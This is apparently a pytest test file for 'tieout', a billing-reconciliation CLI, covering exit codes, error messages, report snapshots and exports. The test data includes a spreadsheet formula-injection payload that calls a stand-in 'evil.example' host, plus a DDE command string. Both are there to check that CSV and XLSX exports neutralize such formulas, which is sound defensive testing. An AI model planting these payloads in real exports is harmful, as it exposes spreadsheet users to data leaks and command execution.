"""The command line end to end on tiny workspaces built here: exit codes, error messages, the
rendered reports, exports, and that commands read the registries (STYLE: errors and exit codes
are part of the interface; the text users read is snapshotted under tests/snapshots/)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass
from pathlib import Path

import pytest

from tieout.categories import CATEGORIES
from tieout.checks import CHECKS
from tieout.cli import app, run_cli
from tieout.config import Config, load_config
from tieout.init_config import field_docs
from tieout.reports.export import COLUMNS, neutralize
from tieout.sources import FORMATS

SNAPSHOTS = Path(__file__).parent / "snapshots"
DOCS = Path(__file__).parent.parent / "docs"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'

# Canonical CSVs: a clean month for two customers, plus two defects: invoice INV-2 bills TEAM at
# 25.00 where the contract says 20.00 (price_mismatch), and a settled 5,000.00 gateway charge ch_3
# that billing never recorded (payment_unmatched) from a gateway customer whose id is a formula.
WORKSPACE: dict[str, list[list[str]]] = {
    "customers": [
        ["customer_id", "name", "gateway_customer_id"],
        ["C1", "Acme Corp", "cus_1"],
        ["C2", "Beta [LLC]", "cus_2"],
    ],
    "subscriptions": [
        ["subscription_id", "customer_id", "sku", "quantity", "unit_amount", "currency", "interval", "start_date",
         "end_date", "status"],
        ["SUB-1", "C1", "PRO", "2", "50.00", "USD", "month", "2026-01-01", "", "active"],
        ["SUB-2", "C2", "TEAM", "1", "20.00", "USD", "month", "2026-01-01", "", "active"],
    ],
    "invoices": [
        ["invoice_id", "customer_id", "subscription_id", "status", "issued_at", "period_start", "period_end",
         "currency", "subtotal", "discount", "tax", "total", "amount_paid"],
        ["INV-1", "C1", "SUB-1", "paid", "2026-07-01 00:00:00", "2026-07-01", "2026-08-01", "USD", "100.00", "0.00",
         "0.00", "100.00", "100.00"],
        ["INV-2", "C2", "SUB-2", "paid", "2026-07-01 00:00:00", "2026-07-01", "2026-08-01", "USD", "25.00", "0.00",
         "0.00", "25.00", "25.00"],
    ],
    "invoice_lines": [
        ["invoice_id", "line_id", "sku", "quantity", "unit_amount", "amount", "discount", "currency", "period_start",
         "period_end", "proration"],
        ["INV-1", "1", "PRO", "2", "50.00", "100.00", "0.00", "USD", "2026-07-01", "2026-08-01", "false"],
        ["INV-2", "1", "TEAM", "1", "25.00", "25.00", "0.00", "USD", "2026-07-01", "2026-08-01", "false"],
    ],
    "payments": [
        ["payment_id", "invoice_id", "customer_id", "type", "method", "amount", "currency", "received_at",
         "gateway_ref"],
        ["PAY-1", "INV-1", "C1", "payment", "card", "100.00", "USD", "2026-07-01 10:00:00", "ch_1"],
        ["PAY-2", "INV-2", "C2", "payment", "card", "25.00", "USD", "2026-07-01 11:00:00", "ch_2"],
        ["PAY-3", "INV-2", "C2", "payment", "card", "12,5O", "USD", "2026-07-02 11:00:00", ""],  # quarantined
    ],
    "gateway_transactions": [
        ["txn_id", "type", "status", "charge_id", "customer_id", "invoice_ref", "gross", "fee", "net", "currency",
         "created_at", "payout_id"],
        ["ch_1", "charge", "succeeded", "ch_1", "cus_1", "INV-1", "100.00", "3.20", "96.80", "USD",
         "2026-07-01 10:00:00", ""],
        ["ch_2", "charge", "succeeded", "ch_2", "cus_2", "INV-2", "25.00", "1.03", "23.97", "USD",
         "2026-07-01 11:00:00", ""],
        ["ch_3", "charge", "succeeded", "ch_3", FORMULA, "", "5000.00", "145.30", "4854.70", "USD",
         "2026-07-15 09:00:00", ""],
    ],
}
EXPECTED = {
    ("gateway_billing", "payment_unmatched", "ch_3"),
    ("billing_subscriptions", "price_mismatch", "INV-2/1"),
}


@dataclass
class Result:
    code: int
    out: str
    err: str


def cli(*args: str | Path) -> Result:
    """Run the CLI in-process through `run_cli` (the code path of `tieout`), capturing its output."""
    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = run_cli([str(a) for a in args])
    return Result(code, out.getvalue(), err.getvalue())


@pytest.fixture(autouse=True)
def _plain_wide_console(monkeypatch: pytest.MonkeyPatch) -> None:
    """Rich output as a pipe sees it, wide enough that tables do not wrap: stable text to assert on."""
    monkeypatch.setenv("COLUMNS", "200")
    for var in ("FORCE_COLOR", "TTY_COMPATIBLE", "TTY_INTERACTIVE", "CLICOLOR_FORCE"):
        monkeypatch.delenv(var, raising=False)


def write_csv(path: Path, rows: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)


def write_workspace(root: Path, tables: dict[str, list[list[str]]] | None = None, extra: str = "") -> Path:
    """A workspace of canonical CSVs (generic `format: csv`, columns by canonical name)."""
    tables = WORKSPACE if tables is None else tables
    root.mkdir(parents=True, exist_ok=True)
    lines = ["engine: duckdb", "store: sqlite:///tieout.db", "as_of: 2026-07-31", "fail_on: high", "sources:"]
    for name, rows in tables.items():
        write_csv(root / f"{name}.csv", rows)
        lines.append(f"  - {{name: {name}, format: csv, path: {name}.csv, table: {name}, system: billing}}")
    (root / "tieout.yaml").write_text("\n".join(lines) + "\n" + extra, encoding="utf-8")
    return root / "tieout.yaml"


def snapshot(name: str, text: str) -> None:
    """Compare `text` with tests/snapshots/`name`; TIEOUT_UPDATE_SNAPSHOTS=1 writes it instead."""
    path = SNAPSHOTS / name
    if os.environ.get("TIEOUT_UPDATE_SNAPSHOTS") == "1":
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        return
    if not path.exists():
        pytest.fail(f"snapshot {path} is missing: run with TIEOUT_UPDATE_SNAPSHOTS=1 and review the file")
    assert text == path.read_text(encoding="utf-8"), f"output differs from {path} (TIEOUT_UPDATE_SNAPSHOTS=1 updates)"


# --- one real run, shared by the read-only tests -------------------------------------------------


@dataclass
class Workspace:
    config: Path
    run: Result


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    config = write_workspace(tmp_path_factory.mktemp("ws") / "books")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("COLUMNS", "200")
        result = cli("run", "-c", config)
    return Workspace(config, result)


def stored_findings(config: Path) -> list[dict[str, object]]:
    r = cli("findings", "export", "-c", config, "--format", "json", "-o", config.parent / "all.json",
            "--status", "all")
    assert r.code == 0, r.err
    data: list[dict[str, object]] = json.loads((config.parent / "all.json").read_text(encoding="utf-8"))
    return data


# --- help, registries ----------------------------------------------------------------------------


def _command_paths() -> list[str]:
    import typer.main

    def walk(cmd: object, prefix: str) -> list[str]:
        subs = getattr(cmd, "commands", None)
        if not subs:
            return [prefix]
        return [p for name, sub in sorted(subs.items()) for p in walk(sub, f"{prefix} {name}")]

    return walk(typer.main.get_command(app), "tieout")


def test_help_lists_every_command() -> None:
    r = cli("--help")
    assert r.code == 0
    top = {p.split()[1] for p in _command_paths()}
    assert top == {"demo", "init", "run", "findings", "quarantine", "checks", "categories", "sources", "rules",
                   "audit", "db", "notify", "metrics", "links", "report", "validate"}
    for name in top:
        assert re.search(rf"\b{name}\b", r.out), name
    sub = cli("findings", "--help")
    for name in ("list", "show", "export"):
        assert re.search(rf"\b{name}\b", sub.out), name


def test_python_dash_m_runs_the_cli() -> None:
    proc = subprocess.run([sys.executable, "-m", "tieout", "--help"], capture_output=True, text=True, check=False,
                          env={**os.environ, "COLUMNS": "200"})
    assert proc.returncode == 0, proc.stderr
    assert "findings" in proc.stdout and "demo" in proc.stdout


def test_help_does_not_import_the_engine() -> None:
    code = ("import sys; from tieout.cli import run_cli; run_cli(['--help']); "
            "heavy = sorted(m for m in ('ibis', 'duckdb', 'openpyxl', 'sqlalchemy', 'tieout.pipeline') "
            "if m in sys.modules); print('HEAVY', heavy)")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert "HEAVY []" in proc.stdout, proc.stdout + proc.stderr


def test_every_command_and_option_is_documented() -> None:
    import typer.main

    doc = (DOCS / "cli.md").read_text(encoding="utf-8")
    for path in _command_paths():
        assert f"`{path}" in doc, f"{path} is not documented in docs/cli.md"
    root = typer.main.get_command(app)

    def options(cmd: object) -> list[str]:
        opts = [o for p in getattr(cmd, "params", []) for o in getattr(p, "opts", []) if o.startswith("--")]
        for sub in (getattr(cmd, "commands", None) or {}).values():
            opts += options(sub)
        return opts

    for opt in options(root):
        assert opt in doc, f"option {opt} is not documented in docs/cli.md"


def test_checks_lists_the_registry() -> None:
    r = cli("checks")
    assert r.code == 0
    for check in CHECKS.values():
        assert check.name in r.out
        for category in check.categories:
            assert category in r.out
        for param in field_docs(check.params):
            assert param.name in r.out
    assert "[active, canceled, trialing]" in r.out  # list defaults are shown literally, not as markup


def test_categories_lists_the_registry() -> None:
    r = cli("categories")
    assert r.code == 0
    for c in CATEGORIES.values():
        assert c.name in r.out
        assert c.definition.split()[0] in r.out


def test_sources_formats_lists_the_registry() -> None:
    r = cli("sources", "formats")
    assert r.code == 0
    for name in FORMATS:
        assert name in r.out


# --- init ----------------------------------------------------------------------------------------


def test_init_writes_a_config_load_config_accepts(tmp_path: Path) -> None:
    r = cli("init", "--dir", tmp_path)
    assert r.code == 0, r.err
    text = (tmp_path / "tieout.yaml").read_text(encoding="utf-8")
    cfg = load_config(tmp_path / "tieout.yaml")
    assert cfg.model_dump() == Config.model_validate({"checks": cfg.checks}).model_dump()
    for f in Config.model_fields:
        assert f in text
    for check in CHECKS.values():
        assert f"  {check.name}:" in text
        for p in field_docs(check.params):
            assert p.name in text and (p.description in " ".join(text.replace("#", " ").split())
                                       if p.description else True)
        assert cfg.checks[check.name] == check.params().model_dump()
    for name in FORMATS:
        assert name in text


def test_init_refuses_to_overwrite(tmp_path: Path) -> None:
    (tmp_path / "tieout.yaml").write_text("engine: duckdb\n", encoding="utf-8")
    r = cli("init", "--dir", tmp_path)
    assert r.code == 2
    assert r.err.splitlines()[0] == f"{tmp_path / 'tieout.yaml'}: already exists; not overwritten (move it away " \
                                    "or choose another --dir)"
    assert (tmp_path / "tieout.yaml").read_text(encoding="utf-8") == "engine: duckdb\n"


# --- errors: exit 2 with one first line naming file and line ----------------------------------------


def test_unknown_config_key_names_file_and_line(tmp_path: Path) -> None:
    config = write_workspace(tmp_path, {"payments": WORKSPACE["payments"]}, extra="checks:\n  gl_cash:\n"
                             "    cash_acounts: [Checking]\n")
    r = cli("run", "-c", config)
    assert r.code == 2
    assert r.err.splitlines()[0] == "tieout.yaml:9: checks.gl_cash.cash_acounts: unknown parameter"
    assert "Traceback" not in r.err


def test_unknown_top_level_key_through_python_dash_m(tmp_path: Path) -> None:
    (tmp_path / "tieout.yaml").write_text("engine: duckdb\nsevrity:\n  high: 10\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "tieout", "run", "-c", str(tmp_path / "tieout.yaml")],
                          capture_output=True, text=True, check=False)
    assert proc.returncode == 2
    assert proc.stderr.splitlines()[0] == "tieout.yaml:2: sevrity: unknown key (not allowed here)"


def test_missing_column_names_file_line_and_column(tmp_path: Path) -> None:
    lines = [row[:4] + row[5:] for row in WORKSPACE["invoice_lines"]]  # drop unit_amount
    config = write_workspace(tmp_path, {"invoice_lines": lines})
    r = cli("run", "-c", config)
    assert r.code == 2
    assert r.err.splitlines()[0].startswith("invoice_lines.csv:1: no column for required invoice_lines.unit_amount")
    snapshot("error_missing_column.txt", r.err)


def test_empty_file_is_bad_input(tmp_path: Path) -> None:
    config = write_workspace(tmp_path, {"payments": WORKSPACE["payments"]})
    (tmp_path / "payments.csv").write_text("", encoding="utf-8")
    r = cli("run", "-c", config)
    assert r.code == 2
    assert r.err.splitlines()[0] == "payments.csv:1: file is empty (expected a header row)"


def test_missing_config_file(tmp_path: Path) -> None:
    r = cli("findings", "list", "-c", tmp_path / "nope.yaml")
    assert r.code == 2
    assert r.err.splitlines()[0].endswith("nope.yaml: config file not found (create one with `tieout init`)")


def test_bad_option_value_is_a_usage_error(tmp_path: Path) -> None:
    r = cli("run", "-c", tmp_path / "tieout.yaml", "--fail-on", "sometimes")
    assert r.code == 2


def test_internal_error_exits_3_with_one_line_and_debug_shows_traceback(monkeypatch: pytest.MonkeyPatch,
                                                                        tmp_path: Path) -> None:
    import tieout.init_config

    def boom() -> str:
        raise RuntimeError("something broke\nsecond line")

    monkeypatch.setattr(tieout.init_config, "example_config", boom)
    r = cli("init", "--dir", tmp_path)
    assert r.code == 3
    assert r.err.splitlines() == ["internal error: RuntimeError: something broke (run with --debug for the traceback)"]
    r = cli("--debug", "init", "--dir", tmp_path)
    assert r.code == 3
    assert "Traceback" in r.err and "boom" in r.err


# --- a real run ----------------------------------------------------------------------------------


def test_run_finds_the_injected_defects_and_nothing_else(ran: Workspace) -> None:
    assert ran.run.code == 1, ran.run.err  # ch_3 is 5,000.00: high, and fail_on is high
    found = {(f["check"], f["category"], f["finding_id"] and _subject(ran.config, str(f["finding_id"])))
             for f in stored_findings(ran.config)}
    assert found == EXPECTED


def _subject(config: Path, finding_id: str) -> str:
    r = cli("findings", "show", finding_id, "-c", config)
    match = re.search(r"^subject\s+(\S+)", r.out, re.M)
    assert match, r.out
    return match.group(1)


def test_run_report_shows_counts_categories_metrics_and_top_findings(ran: Workspace) -> None:
    out = ran.run.out
    assert re.search(r"payments\.csv\s+│\s+payments\s+│\s+3\s+│\s+2\s+│\s+1", out), out
    assert re.search(r"payment_unmatched\s+│\s+USD\s+│\s+1\s+│\s+USD 5,000\.00", out)
    assert re.search(r"price_mismatch\s+│\s+USD\s+│\s+1\s+│\s+USD 5\.00", out)
    assert re.search(r"invoiced\s+│\s+USD 125\.00", out)
    assert re.search(r"cash_leak_pct\s+│\s+\d+\.\d\d%", out)
    assert "skipped gl_cash: no source for" in out
    assert re.search(r"│ F\w{15} │ high .* Gateway charge ch_3 of USD 5,000.00 settled", out)
    assert out.index("payment_unmatched │ =HYPERLINK") < out.index("price_mismatch    │ C2")  # largest first
    assert "1 finding(s) at or above fail_on=high: exit 1" in out


def test_fail_on_never_exits_0_on_the_same_findings(ran: Workspace, tmp_path: Path) -> None:
    import shutil

    copy = shutil.copytree(ran.config.parent, tmp_path / "books")  # the store too; `ran` stays at one run
    again = cli("run", "-c", copy / "tieout.yaml", "--fail-on", "never")
    assert again.code == 0, again.err
    assert "2 findings (new 0, closed 0)" in again.out  # the same findings, seen again


@pytest.mark.parametrize(("fail_on", "failing"), [("high", 1), ("medium", 1), ("low", 2), ("never", 0)])
def test_fail_on_threshold_counts_findings_at_or_above(fail_on: str, failing: int) -> None:
    from tieout.cli import findings_at_or_above
    from tieout.findings import Finding

    def finding(severity: str) -> Finding:
        return Finding("F" + severity, "c", "price_mismatch", severity, None, "USD", 1, None, None, "", None, "s")

    assert len(findings_at_or_above([finding("high"), finding("low")], fail_on)) == failing


def test_findings_list_orders_by_money_at_risk_and_filters(ran: Workspace) -> None:
    r = cli("findings", "list", "-c", ran.config)
    assert r.code == 0
    assert r.out.index("payment_unmatched") < r.out.index("price_mismatch")
    only = cli("findings", "list", "-c", ran.config, "--category", "price_mismatch")
    assert "price_mismatch" in only.out and "payment_unmatched" not in only.out
    by_customer = cli("findings", "list", "-c", ran.config, "--customer", "C2")
    assert "price_mismatch" in by_customer.out and "payment_unmatched" not in by_customer.out
    by_check = cli("findings", "list", "-c", ran.config, "--check", "gateway_billing", "--limit", "1")
    assert "payment_unmatched" in by_check.out and "price_mismatch" not in by_check.out
    assert "0 findings" in cli("findings", "list", "-c", ran.config, "--status", "closed").out
    assert cli("findings", "list", "-c", ran.config, "--category", "price_mismatc").code == 2


def test_findings_show_snapshot(ran: Workspace) -> None:
    price = next(f for f in stored_findings(ran.config) if f["category"] == "price_mismatch")
    r = cli("findings", "show", str(price["finding_id"])[:8], "-c", ran.config)  # a prefix is enough
    assert r.code == 0, r.err
    text = re.sub(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d tieout", "<time> tieout", r.out)
    text = "\n".join(line.rstrip() for line in text.splitlines()) + "\n"
    snapshot("findings_show_price_mismatch.txt", text)


def test_findings_show_unknown_id(ran: Workspace) -> None:
    r = cli("findings", "show", "Fnope", "-c", ran.config)
    assert r.code == 2
    assert r.err.splitlines()[0] == "no finding with id 'Fnope' (see `tieout findings list`)"


def test_export_csv_neutralizes_formulas_and_keeps_numbers(ran: Workspace) -> None:
    path = ran.config.parent / "findings.csv"
    r = cli("findings", "export", "-c", ran.config, "--format", "csv", "-o", path)
    assert r.code == 0, r.err
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == COLUMNS
    assert [r["category"] for r in rows] == ["payment_unmatched", "price_mismatch"]
    assert rows[0]["customer_id"] == "'" + FORMULA
    assert rows[0]["amount_at_risk"] == "500000" and rows[0]["amount_at_risk_display"] == "USD 5,000.00"
    # Where each finding stands in the workflow travels with it (routing and priority of the run).
    assert (rows[0]["priority"], rows[0]["priority_reason"], rows[0]["team"]) == (
        "medium", "USD 5,000.00 at risk ≥ USD 1,000.00", "billing-ops")
    assert rows[0]["status"] == "open" and rows[0]["resolution"] == rows[0]["waived_until"] == ""
    assert rows[1]["evidence"].startswith("invoice_lines:INV-2/1@invoice_lines.csv:3")


def test_export_json(ran: Workspace) -> None:
    path = ran.config.parent / "findings.json"
    assert cli("findings", "export", "-c", ran.config, "--format", "json", "-o", path).code == 0
    data = json.loads(path.read_text(encoding="utf-8"))
    assert [tuple(d) for d in data] == [COLUMNS, COLUMNS]
    assert data[0]["customer_id"] == FORMULA  # JSON is data, not a spreadsheet: kept as is
    assert data[0]["amount_at_risk"] == 500000


def test_export_xlsx(ran: Workspace) -> None:
    from openpyxl import load_workbook

    path = ran.config.parent / "findings.xlsx"
    assert cli("findings", "export", "-c", ran.config, "--format", "xlsx", "-o", path).code == 0
    ws = load_workbook(path).active
    assert ws is not None
    assert [c.value for c in ws[1]] == list(COLUMNS)
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref
    first = {h: c for h, c in zip(COLUMNS, ws[2], strict=True)}
    assert first["customer_id"].value == "'" + FORMULA and first["customer_id"].data_type == "s"
    assert first["amount_at_risk"].value == 500000 and first["amount_at_risk"].data_type == "n"
    explanation = ws.cell(1, COLUMNS.index("explanation") + 1).column_letter
    assert ws.column_dimensions[explanation].width > 10


def test_neutralize_leaves_numbers_alone() -> None:
    assert neutralize(-1250) == -1250
    assert neutralize("-12.50") == "-12.50"
    assert neutralize("-1") == "-1"
    for text in ("=1+2", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "-cmd|' /C calc'!A0"):
        assert neutralize(text) == "'" + text
    assert neutralize("ok") == "ok" and neutralize(None) is None


def test_quarantine_lists_the_bad_row(ran: Workspace) -> None:
    r = cli("quarantine", "-c", ran.config)
    assert r.code == 0
    assert re.search(r"payments\.csv:4\s+│\s+payments\s+│\s+amount\s+│\s+12,5O", r.out), r.out
    assert "12,5O" in cli("quarantine", "-c", ran.config, "--run", "1").out
    assert "12,5O" not in cli("quarantine", "-c", ran.config, "--run", "999").out


def test_export_to_a_missing_directory_is_bad_input(ran: Workspace) -> None:
    r = cli("findings", "export", "-c", ran.config, "-o", ran.config.parent / "no" / "such" / "f.csv")
    assert r.code == 2


# --- demo --------------------------------------------------------------------------------------------


@pytest.mark.e2e
def test_demo_runs_and_exits_0_despite_findings(tmp_path: Path) -> None:
    r = cli("demo", "--dir", tmp_path / "demo", "--customers", "60", "--seed", "3")
    assert r.code == 0, r.err
    assert re.search(r"injected defects found: (\d+)/\1; findings not injected: 0", r.out), r.out[-500:]
    assert (tmp_path / "demo" / "tieout.yaml").exists()
    listed = cli("findings", "list", "-c", tmp_path / "demo" / "tieout.yaml")
    assert listed.code == 0


def test_demo_refuses_a_directory_that_is_not_a_demo(tmp_path: Path) -> None:
    (tmp_path / "tieout.yaml").write_text("engine: duckdb\n", encoding="utf-8")
    r = cli("demo", "--dir", tmp_path)
    assert r.code == 2
    assert "not a demo workspace" in r.err.splitlines()[0]
